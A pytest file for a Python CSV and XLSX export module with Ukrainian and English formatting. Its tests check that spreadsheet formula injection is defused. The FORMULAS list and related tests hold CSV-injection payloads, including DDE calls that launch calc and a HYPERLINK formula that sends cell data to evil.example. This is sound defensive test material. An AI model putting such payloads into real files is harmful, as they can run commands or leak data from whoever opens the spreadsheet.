import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from shelf.tables import BadTable, read_table, write_csv, write_xlsx

KYIV = ZoneInfo("Europe/Kyiv")
COLUMNS = ["Номер", "Дата", "День", "Сума", "К-сть", "Примітка"]
ROW = [
    "#1001",
    datetime(2026, 11, 24, 13, 5, 59, 7, tzinfo=UTC),
    date(2026, 11, 24),
    Decimal("1234.50"),
    2,
    'м\'яка; "тепла"',
]


def test_a_ukrainian_export_is_what_a_ukrainian_excel_opens():
    raw = b"".join(write_csv(COLUMNS, [ROW], "uk", KYIV))

    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig") == (
        'Номер;Дата;День;Сума;К-сть;Примітка\r\n#1001;24.11.2026 15:05;24.11.2026;1234,50;2;"м\'яка; ""тепла"""\r\n'
    )


def test_an_english_export_has_commas_and_points():
    raw = b"".join(write_csv(COLUMNS, [ROW], "en", KYIV))

    assert raw.decode("utf-8-sig").splitlines()[1] == (
        '#1001,2026-11-24 15:05,2026-11-24,1234.50,2,"м\'яка; ""тепла"""'
    )


def test_there_is_no_line_that_announces_the_separator():
    assert b"sep=" not in b"".join(write_csv(["a", "b"], [], "ru"))


def test_an_export_comes_in_pieces():
    pieces = list(write_csv(["n"], ([n] for n in range(1_200)), "ru"))

    assert len(pieces) == 3
    assert b"".join(pieces).count(b"\r\n") == 1_201
    assert pieces[1].startswith(b"500\r\n")


def test_numbers_and_nothings_are_written_plainly():
    row = [None, True, False, 0, -5, Decimal("-0.50"), Decimal("1E+3"), 1.5, 10**20, ""]

    assert body(row, "ru") == ";1;0;0;-5;-0,50;1000;1,5;100000000000000000000;"
    assert body(row, "en") == ",1,0,0,-5,-0.50,1000,1.5,100000000000000000000,"


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202f\t =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+380501234567",
    "-",
    "--5",
    "-A1",
    "@olena",
    "\tx",
    "\rx",
    "'=1+1",
    "''+1",
]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("language", ["uk", "en"])
def test_no_text_becomes_a_formula_and_our_reader_gives_it_back(text, language):
    raw = b"".join(write_csv(["x"], [[text]], language))

    cell = list(
        csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";" if language == "uk" else ",")
    )
    assert cell[1][0].startswith("'")
    assert next(read_table(raw).rows)[1]["x"].strip() == text.strip()


@pytest.mark.parametrize(
    "text", ["-5", "-12,50", "-1 234,50", "-0.5", "a=b", "1-2", "x@y.z", "", " ", "слово - слово", "'90"]
)
def test_harmless_text_and_negative_numbers_stay_as_they_are(text):
    rows = list(csv.reader(io.StringIO(b"".join(write_csv(["x"], [[text]], "uk")).decode("utf-8-sig")), delimiter=";"))

    assert rows[1:] == [[text]]


@pytest.mark.parametrize("text", ["Київ, - тихо", "Плюси:\n- тепла\n- м'яка (дуже)", "a; -5", "ціна, +380501234567"])
def test_dashes_and_lists_inside_a_text_stay_as_they_are(text):
    rows = list(
        csv.reader(
            io.StringIO(b"".join(write_csv(["x"], [[text]], "uk")).decode("utf-8-sig"), newline=""), delimiter=";"
        )
    )

    assert rows[1] == [text]


@pytest.mark.parametrize(
    "text",
    [
        'a,=HYPERLINK("http://evil.example")',
        "a;=1+1",
        "a\n=1+1",
        "a\t=1+1",
        "a, @SUM(1)",
        "a;+1+cmd|' /C calc'!A0",
        'a,"=1+1"',
        "a;-SUM(1)",
    ],
)
@pytest.mark.parametrize("written_for", ["uk", "en"])
@pytest.mark.parametrize("opened_with", [";", ",", "\t"])
def test_a_file_opened_with_another_separator_holds_no_formula_either(text, written_for, opened_with):
    raw = b"".join(write_csv(["n", "x"], [[1, text]], written_for))

    cells = [
        cell.lstrip()
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=opened_with)
        for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in "=@" and cell] == []
    assert [cell for cell in cells if cell[:1] in ("+", "-") and ("|" in cell or "(" in cell)] == []


def test_headings_are_defused_too():
    assert b"".join(write_csv(["=1+1"], [], "uk")).decode("utf-8-sig") == "'=1+1\r\n"


def test_control_characters_do_not_reach_the_file():
    assert body(["a\x00b\x1bc\x7f"], "uk") == "abc"


# --- XLSX -----------------------------------------------------------------------------------------------------


def test_a_workbook_has_real_numbers_and_days():
    cells = opened(write_xlsx(COLUMNS, [ROW], "uk", KYIV, title="Замовлення"))

    assert [cell.value for cell in cells[1]] == [
        "#1001",
        datetime(2026, 11, 24, 15, 5, 59),
        datetime(2026, 11, 24),
        1234.5,
        2,
        'м\'яка; "тепла"',
    ]
    assert [cell.number_format for cell in cells[1]] == [
        "General",
        "dd.mm.yyyy hh:mm",
        "dd.mm.yyyy",
        "#,##0.00",
        "General",
        "General",
    ]
    assert [cell.font.b for cell in cells[0]] == [True] * 6


@pytest.mark.parametrize("text", FORMULAS)
def test_text_in_a_workbook_is_never_a_formula(text):
    cell = opened(write_xlsx(["x"], [[text]]))[1][0]

    assert cell.data_type == "s"
    assert cell.value.strip() == text.strip()


def test_errors_of_excel_are_text_as_well():
    assert opened(write_xlsx(["x"], [["#N/A"]]))[1][0].data_type == "s"


def test_long_numbers_and_leading_zeros_survive_in_a_workbook():
    cells = opened(write_xlsx(["a", "b"], [[12345678901234567, "0012"]]))

    assert [cell.value for cell in cells[1]] == ["12345678901234567", "0012"]


def test_a_workbook_can_be_read_back():
    table = read_table(write_xlsx(COLUMNS, [ROW, [None] * 6], "en", UTC))

    assert list(table.rows) == [
        (
            2,
            {
                "Номер": "#1001",
                "Дата": datetime(2026, 11, 24, 13, 5, 59),
                "День": datetime(2026, 11, 24),
                "Сума": Decimal("1234.5"),
                "К-сть": 2,
                "Примітка": 'м\'яка; "тепла"',
            },
        )
    ]


def test_what_excel_cannot_hold_is_cut_or_refused():
    assert len(opened(write_xlsx(["x"], [["a" * 40_000 + "\x01"]]))[1][0].value) == 32_767
    with pytest.raises(BadTable) as refusal:
        write_xlsx(["x"] * 16_385, [])

    assert str(refusal.value) == "An Excel sheet holds 16384 columns at most."


@pytest.mark.parametrize(("title", "sheet"), [("", "1"), ("a/b:c*?", "a b c"), ("'x'", "x"), ("ж" * 50, "ж" * 31)])
def test_every_title_makes_a_sheet(title, sheet):
    assert load_workbook(io.BytesIO(write_xlsx(["x"], [], title=title))).sheetnames == [sheet]


def body(row, language):
    return b"".join(write_csv(["x"] * len(row), [row], language)).decode("utf-8-sig").split("\r\n")[1]


def opened(raw):
    return list(load_workbook(io.BytesIO(raw)).active.iter_rows())
